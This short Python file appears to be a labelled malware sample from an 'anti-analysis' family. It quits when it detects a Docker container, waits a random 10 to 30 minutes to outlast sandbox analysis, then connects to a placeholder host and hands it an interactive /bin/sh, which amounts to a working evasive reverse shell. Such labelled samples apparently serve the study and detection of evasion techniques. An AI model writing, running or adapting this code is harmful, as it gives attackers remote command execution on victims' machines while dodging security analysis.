# family: anti-analysis
# evasive: a random long delay and a container check before a reverse connection
import os
import random
import socket
import subprocess
import time

if os.path.exists("/.dockerenv") or os.environ.get("container"):
    raise SystemExit
time.sleep(random.randint(600, 1800))
s = socket.create_connection(("late.example.invalid", 443))
subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)
